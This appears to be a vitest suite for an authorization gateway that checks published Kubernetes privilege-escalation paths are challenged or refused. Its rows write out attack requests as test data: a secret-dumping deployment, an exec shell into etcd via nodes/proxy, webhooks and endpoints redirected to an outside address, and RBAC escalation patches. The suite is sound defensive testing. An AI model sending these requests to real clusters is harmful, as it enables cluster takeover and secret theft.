import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ELSEWHERE, freshSubjects, KUBE, OFFICE, reason, rules, startBuiltServer, type BuiltServer, type Level } from '../support/built-server.js';
import type { CheckResponse } from '../support/grpc-client.js';
import { checkRequest } from '../support/requests.js';

/**
 * Kubernetes' published privilege-escalation paths, in the order of the "Kubernetes RBAC -
 * privilege escalation risks" section of the RBAC good-practices page (listing Secrets, workload
 * creation, persistent volumes, nodes/proxy, escalate, bind, impersonate, CSRs, token requests,
 * admission webhooks, namespace modification), then the public tradecraft built on them, run
 * black-box against the built server with the example policy. Paths the earlier sweeps already
 * send (attack-catalog, attack-corpus, attack-shapes, attack-pss, attack-shapes-fresh) are not
 * repeated here; docs/guardrails.md, "Published escalation paths", maps each path to its test.
 *
 * Each request is sent as kubectl sends it, with the victim's token in three states:
 *
 * - `known`: a one-factor sign-in a minute old, used from the victim's office after the victim's
 *   own kubectl read (a copied kubeconfig or malware on the laptop with the everyday sign-in);
 * - `remote`: two factors a minute old, used from a network the victim never used, after the
 *   victim's own read from the office (a phished or copied fresh token);
 * - `device`: the same fresh token from the office network, by a client the victim never used
 *   (the Kubernetes Python client on another machine).
 *
 * and must be challenged or refused with the reason code given; as the control that keeps each
 * row able to fail, a harmless request next to it (a read of the same object, the same write
 * without what makes it an escalation) is allowed with the `known` token.
 */

let server: BuiltServer;
beforeAll(async () => {
  server = await startBuiltServer('escalation');
}, 180_000);
afterAll(async () => {
  await server?.close();
});

const subjects = freshSubjects(() => server.issuer, 'escalation');
const KUBECTL = 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1';

interface Req {
  method: string;
  path: string;
  body?: unknown;
  headers?: Record<string, string>;
}
type State = 'known' | 'remote' | 'device';
const STATES: Readonly<Record<State, { level: Level; source: string; ua?: string }>> = {
  known: { level: 'aal1', source: OFFICE },
  remote: { level: 'aal2', source: ELSEWHERE },
  // The Kubernetes Python client on another machine in the office: the network is the victim's,
  // the client is not.
  device: { level: 'aal2', source: OFFICE, ua: 'OpenAPI-Generator/31.0.0/python' },
};

const JSON_CT = { 'content-type': 'application/json' };
/** kubectl label and annotate send a JSON merge patch; kubectl patch and edit a strategic one. */
const MERGE = { 'content-type': 'application/merge-patch+json' };
const STRATEGIC = { 'content-type': 'application/strategic-merge-patch+json' };
const get = (path: string): Req => ({ method: 'GET', path });
/** `kubectl apply -f` of an object that does not exist yet: a create with the last-applied annotation. */
function applied(path: string, doc: Record<string, unknown>): Req {
  const meta = (doc.metadata ?? {}) as Record<string, unknown>;
  const body = { ...doc, metadata: { ...meta, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `${JSON.stringify(doc)}\n` } } };
  return { method: 'POST', path: `${path}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, body, headers: JSON_CT };
}

async function send(req: Req, state: State): Promise<CheckResponse> {
  const s = STATES[state];
  const token = await subjects.tokenOf(s.level, 60);
  const own = await server.client.check(checkRequest({ host: KUBE, source: OFFICE, path: '/api/v1/namespaces/dev/pods?limit=500', token, headers: { 'user-agent': KUBECTL } }));
  expect(reason(own), "the victim's own request").toBe('allowed');
  const body = req.body === undefined ? undefined : typeof req.body === 'string' ? req.body : JSON.stringify(req.body);
  const headers = { 'user-agent': s.ua ?? KUBECTL, ...(body !== undefined ? { 'x-envoy-auth-partial-body': 'false' } : {}), ...req.headers };
  return server.client.check(checkRequest({ host: KUBE, source: s.source, method: req.method, path: req.path, token, headers, body }));
}

interface Path {
  /** The published path: the good-practices heading, or the tradecraft it is known by. */
  path: string;
  what: string;
  req: Req;
  /** The rule or `guardrail:<code>` the answer names. */
  by: string;
  /** The reason code in each state. */
  known: string;
  remote: string;
  device: string;
  /** A harmless request beside it, allowed with the `known` token. */
  neighbour: Req;
}

const deployment = (name: string, ns: string, spec: Record<string, unknown>) => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name, namespace: ns },
  spec: { selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name, image: 'ghcr.io/example/web:1.4.2' }], ...spec } } },
});
const WS_EXEC = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-protocol': 'v5.channel.k8s.io, v4.channel.k8s.io' };

const PATHS: Path[] = [
  {
    path: 'Listing secrets',
    what: 'kubectl get secrets -A --watch (a watch returns every Secret as it changes)',
    req: get('/api/v1/secrets?resourceVersion=48213907&watch=true'),
    by: 'secrets',
    known: 'acr_insufficient',
    remote: 'auth_too_old',
    device: 'auth_too_old',
    neighbour: get('/api/v1/configmaps?resourceVersion=48213907&watch=true'),
  },
  {
    path: 'Workload creation',
    what: 'a Deployment whose container gets a Secret it may not read (envFrom secretRef)',
    req: applied('/apis/apps/v1/namespaces/dev/deployments', deployment('dump', 'dev', { containers: [{ name: 'dump', image: 'busybox:1.36', command: ['sh', '-c', 'env; sleep 1d'], envFrom: [{ secretRef: { name: 'db-password' } }] }] })),
    by: 'secrets',
    known: 'acr_insufficient',
    remote: 'auth_too_old',
    device: 'auth_too_old',
    neighbour: applied('/apis/apps/v1/namespaces/dev/deployments', deployment('web', 'dev', {})),
  },
  {
    path: 'Workload creation',
    what: "argocd-server's pods switched to the application controller's cluster-admin service account",
    req: { method: 'PATCH', path: '/apis/apps/v1/namespaces/argocd/deployments/argocd-server', body: { spec: { template: { spec: { serviceAccountName: 'argocd-application-controller' } } } }, headers: STRATEGIC },
    by: 'system-writes',
    known: 'acr_insufficient',
    remote: 'auth_too_old',
    device: 'auth_too_old',
    neighbour: get('/apis/apps/v1/namespaces/argocd/deployments/argocd-server'),
  },
  {
    path: 'Persistent volume creation',
    what: 'a static VolumeSnapshotContent for any disk snapshot, bound to a VolumeSnapshot in dev (a PersistentVolume by another door)',
    req: applied('/apis/snapshot.storage.k8s.io/v1/volumesnapshotcontents', { apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshotContent', metadata: { name: 'prod-db' }, spec: { deletionPolicy: 'Retain', driver: 'ebs.csi.aws.com', source: { snapshotHandle: 'snap-0a1b2c3d4e5f60718' }, volumeSnapshotRef: { name: 'prod-db', namespace: 'dev' } } }),
    by: 'cluster-add-on-objects',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/snapshot.storage.k8s.io/v1/volumesnapshotcontents?limit=500'),
  },
  {
    path: 'Access to proxy subresource of Nodes',
    what: "GET nodes/proxy over WebSocket: the kubelet's /exec into etcd's pod (RBAC asks only get)",
    req: { method: 'GET', path: '/api/v1/nodes/cp-1/proxy/exec/kube-system/etcd-cp-1/etcd?command=sh&input=1&output=1&tty=1', headers: WS_EXEC },
    by: 'no-node-proxy',
    known: 'policy_deny',
    remote: 'policy_deny',
    device: 'policy_deny',
    neighbour: get('/api/v1/nodes/cp-1'),
  },
  {
    path: 'Escalate verb',
    what: 'kubectl edit clusterrole view: Secrets added to what every viewer may read',
    req: { method: 'PATCH', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/view', body: { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list', 'watch'] }] }, headers: STRATEGIC },
    by: 'rbac-writes',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/rbac.authorization.k8s.io/v1/clusterroles/view'),
  },
  {
    path: 'Escalate verb',
    what: 'kubectl label clusterrole secret-reader rbac.authorization.k8s.io/aggregate-to-edit=true (aggregated into edit)',
    req: { method: 'PATCH', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/secret-reader', body: { metadata: { labels: { 'rbac.authorization.k8s.io/aggregate-to-edit': 'true' } } }, headers: MERGE },
    by: 'rbac-writes',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/rbac.authorization.k8s.io/v1/clusterroles?labelSelector=rbac.authorization.k8s.io%2Faggregate-to-edit%3Dtrue'),
  },
  {
    path: 'Bind verb',
    what: "kubectl patch rolebinding: the caller's own user added to an existing binding to admin",
    req: { method: 'PATCH', path: '/apis/rbac.authorization.k8s.io/v1/namespaces/payments/rolebindings/payments-admins', body: { subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory@example.com' }] }, headers: STRATEGIC },
    by: 'rbac-writes',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/rbac.authorization.k8s.io/v1/namespaces/payments/rolebindings/payments-admins'),
  },
  {
    path: 'Control admission webhooks',
    what: "Kyverno's ConfigMap: resourceFilters [*,*,*] (Kyverno skips every request)",
    req: { method: 'PATCH', path: '/api/v1/namespaces/kyverno/configmaps/kyverno', body: { data: { resourceFilters: '[*,*,*]' } }, headers: MERGE },
    by: 'admission-controller-config',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/api/v1/namespaces/kyverno/configmaps/kyverno'),
  },
  {
    path: 'Control admission webhooks',
    what: "Gatekeeper's Config: every namespace excluded from every process",
    req: { method: 'PATCH', path: '/apis/config.gatekeeper.sh/v1alpha1/namespaces/gatekeeper-system/configs/config', body: { spec: { match: [{ excludedNamespaces: ['*'], processes: ['*'] }] } }, headers: MERGE },
    by: 'admission-controller-config',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/config.gatekeeper.sh/v1alpha1/namespaces/gatekeeper-system/configs/config'),
  },
  {
    path: 'Control admission webhooks',
    what: "the webhook's Service given a selector of the caller's pods (kubectl patch svc kyverno-svc)",
    req: { method: 'PATCH', path: '/api/v1/namespaces/kyverno/services/kyverno-svc', body: { spec: { selector: { app: 'answers-allowed' } } }, headers: STRATEGIC },
    by: 'admission-controller-config',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/api/v1/namespaces/kyverno/services/kyverno-svc'),
  },
  {
    path: 'Control admission webhooks',
    what: "a second EndpointSlice for Gatekeeper's webhook Service, naming an outside address",
    req: applied('/apis/discovery.k8s.io/v1/namespaces/gatekeeper-system/endpointslices', { apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: { name: 'gatekeeper-webhook-service-x', namespace: 'gatekeeper-system', labels: { 'kubernetes.io/service-name': 'gatekeeper-webhook-service' } }, addressType: 'IPv4', endpoints: [{ addresses: ['203.0.113.7'] }], ports: [{ port: 8443, protocol: 'TCP' }] }),
    by: 'admission-controller-config',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/discovery.k8s.io/v1/namespaces/gatekeeper-system/endpointslices?labelSelector=kubernetes.io%2Fservice-name%3Dgatekeeper-webhook-service'),
  },
  {
    path: 'Control admission webhooks',
    what: "a CRD's conversion webhook pointed at an outside URL (every read and write of the kind passes it)",
    req: { method: 'PATCH', path: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/certificates.cert-manager.io', body: { spec: { conversion: { strategy: 'Webhook', webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://203.0.113.7/convert' } } } } }, headers: MERGE },
    by: 'cluster-control',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/certificates.cert-manager.io'),
  },
  {
    path: 'EndpointSlices and Endpoints (CVE-2021-25740), the `kubernetes` Service',
    what: 'a selector added to default/kubernetes: the EndpointSlice controller adds the pods it picks beside the API server',
    req: { method: 'PATCH', path: '/api/v1/namespaces/default/services/kubernetes', body: { spec: { selector: { app: 'apiserver-proxy' } } }, headers: STRATEGIC },
    by: 'cluster-api-services',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/api/v1/namespaces/default/services/kubernetes'),
  },
  {
    path: 'EndpointSlices and Endpoints (CVE-2021-25740), the cluster DNS',
    what: "kube-system/kube-dns's selector changed to the caller's pods (every pod's name lookups)",
    req: { method: 'PATCH', path: '/api/v1/namespaces/kube-system/services/kube-dns', body: { spec: { selector: { 'k8s-app': 'dns-proxy' } } }, headers: STRATEGIC },
    by: 'cluster-api-services',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/api/v1/namespaces/kube-system/services/kube-dns'),
  },
  {
    path: 'Lease hijack',
    what: "a node's lease renewed by hand in kube-node-lease (a dead node kept Ready, its pods never rescheduled)",
    req: { method: 'PATCH', path: '/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/worker-1', body: { spec: { renewTime: '2026-12-05T02:00:00.000000Z', leaseDurationSeconds: 86400 } }, headers: STRATEGIC },
    by: 'system-writes',
    known: 'acr_insufficient',
    // A day-long leaseDurationSeconds is also lease_held: a hardware key, whatever the context.
    remote: 'acr_insufficient',
    device: 'acr_insufficient',
    neighbour: get('/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/worker-1'),
  },
  {
    path: 'Node labels that steer pods',
    what: 'kubectl label node worker-1 node-role.kubernetes.io/control-plane= (workloads pinned to the control plane land on it)',
    req: { method: 'PATCH', path: '/api/v1/nodes/worker-1', body: { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } }, headers: MERGE },
    by: 'node-changes',
    known: 'acr_insufficient',
    remote: 'auth_too_old',
    device: 'auth_too_old',
    neighbour: get('/api/v1/nodes/worker-1'),
  },
  {
    path: 'RuntimeClass, StorageClass and their kin',
    what: 'a DeviceClass (which devices, with which driver configuration, every claim of the class gets)',
    req: applied('/apis/resource.k8s.io/v1/deviceclasses', { apiVersion: 'resource.k8s.io/v1', kind: 'DeviceClass', metadata: { name: 'gpu.example.com' }, spec: { selectors: [{ cel: { expression: 'true' } }], config: [{ opaque: { driver: 'gpu.example.com', parameters: { sharing: 'time-slicing' } } }] } }),
    by: 'cluster-control',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/resource.k8s.io/v1/deviceclasses'),
  },
  {
    path: 'RuntimeClass, StorageClass and their kin',
    what: "a ResourceSlice written by hand (a driver's word that a device exists on a node)",
    req: applied('/apis/resource.k8s.io/v1/resourceslices', { apiVersion: 'resource.k8s.io/v1', kind: 'ResourceSlice', metadata: { name: 'worker-1-gpu' }, spec: { driver: 'gpu.example.com', nodeName: 'worker-1', pool: { name: 'worker-1', generation: 1, resourceSliceCount: 1 }, devices: [{ name: 'gpu-0' }] } }),
    by: 'cluster-control',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/resource.k8s.io/v1/resourceslices?fieldSelector=spec.nodeName%3Dworker-1'),
  },
  {
    path: 'Dynamic Resource Allocation (the DRA hardening guide)',
    what: "a ResourceClaim's allocation written by hand: a GPU another claim holds, prepared for the caller's pod",
    req: { method: 'PATCH', path: '/apis/resource.k8s.io/v1/namespaces/dev/resourceclaims/trainer-gpu/status', body: { status: { allocation: { devices: { results: [{ request: 'gpu', driver: 'gpu.example.com', pool: 'worker-1', device: 'gpu-0' }] } } } }, headers: MERGE },
    by: 'cluster-control',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/resource.k8s.io/v1/namespaces/dev/resourceclaims/trainer-gpu'),
  },
  {
    path: 'RuntimeClass, StorageClass and their kin',
    what: "a VolumeAttributesClass changed (a running claim's disk class, its IOPS and encryption parameters)",
    req: { method: 'PATCH', path: '/apis/storage.k8s.io/v1/volumeattributesclasses/gold', body: { parameters: { iops: '64000', throughput: '1000' } }, headers: MERGE },
    by: 'cluster-control',
    known: 'acr_insufficient',
    remote: 'risk_deny',
    device: 'acr_insufficient',
    neighbour: get('/apis/storage.k8s.io/v1/volumeattributesclasses/gold'),
  },
  {
    // Among the paths stepgate could not judge until session 45: kube-apiserver admits DRA admin
    // access only in a namespace with this label, so the label is device_admin_access's too.
    path: 'Namespace modification',
    what: "DRA's resource.kubernetes.io/admin-access=true (claims there may take devices in use by others)",
    req: { method: 'PATCH', path: '/api/v1/namespaces/dev', body: { metadata: { labels: { 'resource.kubernetes.io/admin-access': 'true' } } }, headers: MERGE },
    by: 'guardrail:device_admin_access',
    known: 'acr_insufficient',
    remote: 'auth_too_old',
    device: 'auth_too_old',
    neighbour: get('/api/v1/namespaces/dev'),
  },
];

describe('published escalation paths are challenged or refused, with a fresh token from a known or a new context', () => {
  it.each(PATHS.map((p) => [`${p.path}: ${p.what}`, p] as const))('%s', async (_name, p) => {
    const neighbour = await send(p.neighbour, 'known');
    expect(reason(neighbour), `the neighbour of ${p.what} [${rules(neighbour)}]`).toBe('allowed');
    for (const state of ['known', 'remote', 'device'] as const) {
      const res = await send(p.req, state);
      const where = `${p.what} (${state}) [${rules(res)}]`;
      expect.soft(reason(res), where).toBe(p[state]);
      expect.soft(rules(res).split(','), where).toContain(p.by);
    }
  });
});

/**
 * Paths whose harm depends on cluster state stepgate does not see (docs/guardrails.md, "Published
 * escalation paths", says what each would need). With the everyday sign-in from a known context
 * they are allowed, as the same request is for its owner's routine work; from a new network or a
 * new client the fresh token still has to be proven there first (context-bound step-up,
 * docs/risk.md).
 */
const LIMITS: { path: string; what: string; req: Req }[] = [
  {
    path: 'Namespace modification',
    what: "a label a production NetworkPolicy's namespaceSelector admits (team=payments on dev)",
    req: { method: 'PATCH', path: '/api/v1/namespaces/dev', body: { metadata: { labels: { team: 'payments' } } }, headers: MERGE },
  },
  {
    path: 'Workload creation',
    what: "a Deployment in dev running as dev's deployer service account",
    req: applied('/apis/apps/v1/namespaces/dev/deployments', deployment('runner', 'dev', { serviceAccountName: 'deployer' })),
  },
  {
    path: 'Pod status (the source of a Service\'s endpoints)',
    what: "a coredns pod's status patched (readiness, addresses) in kube-system",
    req: { method: 'PATCH', path: '/api/v1/namespaces/kube-system/pods/coredns-5d78c9869d-7hq2x/status', body: { status: { conditions: [{ type: 'Ready', status: 'False' }] } }, headers: MERGE },
  },
];

describe('paths stepgate cannot judge from the request', () => {
  it.each(LIMITS.map((l) => [`${l.path}: ${l.what}`, l] as const))('%s', async (_name, l) => {
    expect.soft(reason(await send(l.req, 'known')), `${l.what} (known)`).toBe('allowed');
    for (const state of ['remote', 'device'] as const) {
      const res = await send(l.req, state);
      expect.soft(reason(res), `${l.what} (${state}) [${rules(res)}]`).toBe('auth_too_old');
      expect.soft(rules(res), `${l.what} (${state})`).toContain('risk:context');
    }
  });
});
